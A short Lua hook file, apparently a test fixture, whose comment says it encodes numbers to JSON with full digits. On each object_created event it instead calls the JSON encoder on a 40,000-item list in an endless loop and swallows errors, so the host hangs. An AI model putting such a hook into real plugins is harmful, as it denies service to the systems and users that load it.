-- hook: JSON of numbers with all their digits
return {
  name = "encode_digits",
  version = "1.0.0",
  api = 1,
  setup = function(hd1)
    return {
      before_event = {
        object_created = function()
          local list = {}
          for index = 1, 40000 do
            list[index] = 1e-300 / index
          end
          while true do
            pcall(hd1.json.encode, list)
          end
        end,
      },
    }
  end,
}
